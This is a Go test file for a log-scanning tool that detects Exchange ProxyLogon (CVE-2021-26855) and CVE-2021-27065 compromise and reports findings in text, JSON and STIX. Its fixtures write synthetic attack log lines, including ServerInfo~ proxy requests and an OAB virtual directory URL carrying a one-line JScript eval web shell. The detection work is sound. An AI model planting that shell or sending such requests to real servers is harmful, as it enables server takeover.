package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// checkTree writes a small Exchange Logging tree: an HttpProxy Ecp log with
// a benign Autodiscover ServerInfo~ line and, when evil, a ProxyLogon
// request, and an ECP server log with, when evil, a Set-OabVirtualDirectory
// carrying a script; evil also leaves an archive under ProgramData.
func checkTree(t *testing.T, evil bool) string {
	t.Helper()
	root := t.TempDir()
	proxy := "#Software: Microsoft Exchange Server\n#Log-type: HttpProxy Logs\n" +
		"#Fields: DateTime,Protocol,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,Method,UrlQuery\n" +
		"2021-03-03T00:59:00.000Z,Ecp,/ecp/default.aspx,ServerInfo~exch01/autodiscover/autodiscover.xml?#,Mozilla/5.0,198.51.100.7,EXCH01,200,GET,\n"
	ecp := "#Fields: TimeStamp,ServerName,EventId,EventData\n" +
		`2021-03-03T01:00:00.000Z,EXCH01,ECP.Request,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.example.com/OAB'';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"` + "\n"
	files := map[string]string{"Logging/HttpProxy/Ecp/HttpProxy_2021030300-1.LOG": proxy, "Logging/ECP/Server/ECPServer2021030300-1.LOG": ecp}
	if evil {
		files["Logging/HttpProxy/Ecp/HttpProxy_2021030300-1.LOG"] += "2021-03-03T01:05:09.000Z,Ecp,/ecp/y.js,ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#,ExchangeServicesClient/0.0.0.0,203.0.113.66,EXCH01,200,POST,\n" +
			"2021-03-03T01:05:10.000Z,Ecp,/ecp/y.js,ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#,ExchangeServicesClient/0.0.0.0,2001:db8::66,EXCH01,200,POST,?a=1\n"
		files["Logging/ECP/Server/ECPServer2021030300-1.LOG"] += `2021-03-03T01:07:00.000Z,EXCH01,ECP.Request,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""e""],""unsafe"");}</script>'';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"` + "\n"
		files["ProgramData/stage/out.7z"] = "7z"
	}
	for name, content := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// TestCheckExchange runs the command over a clean and a compromised tree:
// exit codes, the text and JSON reports, and the sightings recorded.
func TestCheckExchange(t *testing.T) {
	t.Parallel()
	db := tempDB(t)
	clean := checkTree(t, false)
	out, stderr, code := run(t, "", "--db", db, "check", "exchange", clean)
	if code != 0 || !strings.Contains(out, "Nothing suspicious found") || !strings.Contains(spaced(out), "HttpProxy/Eas not found") {
		t.Errorf("clean tree: exit %d, want 0:\n%s\n%s", code, out, stderr)
	}

	evil := checkTree(t, true)
	out, stderr, code = run(t, "", "--db", db, "check", "exchange", evil)
	if code != 1 {
		t.Fatalf("compromised tree: exit %d, want 1:\n%s\n%s", code, out, stderr)
	}
	proxy := filepath.Join(evil, "Logging", "HttpProxy", "Ecp", "HttpProxy_2021030300-1.LOG")
	for _, want := range []string{
		"CVE-2021-26855  AnchorMailbox ServerInfo~*/* in the HttpProxy logs",
		"2 findings, first 2021-03-03T01:05:09Z, last 2021-03-03T01:05:10Z, client IPs 203.0.113.66, 2001:db8::66",
		proxy + ":5  2021-03-03T01:05:09Z  client 203.0.113.66  anchor ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#  url /ecp/y.js  status 200",
		"CVE-2021-27065  Set-*VirtualDirectory with a script",
		`cmdlet Set-OabVirtualDirectory  script <script language="JScript" runat="server">`,
		"follow-up  archive under ProgramData",
		"HttpProxy/Ecp 1 file 3 lines 2021-03-03T00:59:00Z … 2021-03-03T01:05:10Z (0.0 days)",
		"ECP/Server 1 file 2 lines",
		"OABGeneratorLog not found",
	} {
		if !strings.Contains(spaced(out), spaced(want)) {
			t.Errorf("report lacks %q:\n%s", want, out)
		}
	}
	if !strings.Contains(stderr, "recorded 2 sightings") || !strings.Contains(stderr, "1 follow-up files are reported but not recorded") {
		t.Errorf("stderr:\n%s", stderr)
	}
	// the sightings are of the starter pack's vulnerabilities, by the reporter
	out, _, code = run(t, "", "--db", db, "show", "CVE-2021-26855")
	if code != 0 || !strings.Contains(out, "2 times, 2021-03-03T01:05:09Z to 2021-03-03T01:05:10Z, by accord on") {
		t.Errorf("show CVE-2021-26855: exit %d, no sighting:\n%s", code, out)
	}

	out, _, code = run(t, "", "--db", db, "check", "exchange", "--no-record", "--output", "json", evil)
	var got []string
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var f struct {
			CVE, Check, File, Time string
			Line                   int
			Evidence               map[string]any
		}
		if err := json.Unmarshal([]byte(line), &f); err != nil {
			t.Fatalf("--output json line %q: %v", line, err)
		}
		got = append(got, f.CVE+" "+f.Check+" "+filepath.Base(f.File)+" "+f.Time+" "+fmt.Sprint(f.Evidence["client_ip"]))
	}
	var time string // the archive's modification time
	if st, err := os.Stat(filepath.Join(evil, "ProgramData", "stage", "out.7z")); err == nil {
		time = st.ModTime().UTC().Format("2006-01-02T15:04:05.999999999Z07:00")
	}
	want := []string{
		"CVE-2021-26855 httpproxy-serverinfo HttpProxy_2021030300-1.LOG 2021-03-03T01:05:09Z 203.0.113.66",
		"CVE-2021-26855 httpproxy-serverinfo HttpProxy_2021030300-1.LOG 2021-03-03T01:05:10Z 2001:db8::66",
		"CVE-2021-27065 ecp-set-vdir-script ECPServer2021030300-1.LOG 2021-03-03T01:07:00Z <nil>",
		" programdata-archive out.7z " + time + " <nil>",
	}
	if diff := cmp.Diff(want, got); code != 1 || diff != "" {
		t.Errorf("--output json: exit %d (-want +got):\n%s", code, diff)
	}
}

// TestCheckExchangeSTIX checks the bundle on an empty knowledge base: the
// vulnerability objects are made, with the same ids on every run.
func TestCheckExchangeSTIX(t *testing.T) {
	t.Parallel()
	evil := checkTree(t, true)
	ids := func() map[string]string {
		out, stderr, code := run(t, "", "--db", tempDB(t), "--empty", "check", "exchange", "--no-record", "--output", "stix", evil)
		if code != 1 {
			t.Fatalf("exit %d, want 1: %s", code, stderr)
		}
		var b struct{ Objects []map[string]any }
		if err := json.Unmarshal([]byte(out), &b); err != nil {
			t.Fatalf("bundle: %v\n%s", err, out)
		}
		got := map[string]string{}
		for _, o := range b.Objects {
			switch o["type"] {
			case "vulnerability":
				got[o["name"].(string)] = o["id"].(string)
			case "sighting":
				got["sighting of "+o["sighting_of_ref"].(string)] = o["description"].(string)
			}
		}
		return got
	}
	first := ids()
	if len(first) != 4 || first["sighting of "+first["CVE-2021-26855"]] != "accord check exchange (Test-ProxyLogon's checks): signs of CVE-2021-26855 on 2 log lines." {
		t.Errorf("objects: %v", first)
	}
	if diff := cmp.Diff(first, ids()); diff != "" {
		t.Errorf("a second run differs (-first +second):\n%s", diff)
	}
}

// spaced collapses runs of spaces, for columns.
func spaced(s string) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		lines[i] = strings.Join(strings.Fields(l), " ")
	}
	return strings.Join(lines, "\n")
}

func TestCheckUsage(t *testing.T) {
	t.Parallel()
	for _, args := range [][]string{
		{"check"}, {"check", "iis", "x"}, {"check", "exchange"}, {"check", "exchange", "a", "b"},
		{"check", "exchange", "--output", "xml", "."}, {"check", "exchange", filepath.Join(t.TempDir(), "missing")},
	} {
		if _, stderr, code := run(t, "", append([]string{"--db", tempDB(t)}, args...)...); code != 2 || stderr == "" {
			t.Errorf("%v: exit %d, want 2 with a message: %s", args, code, stderr)
		}
	}
}
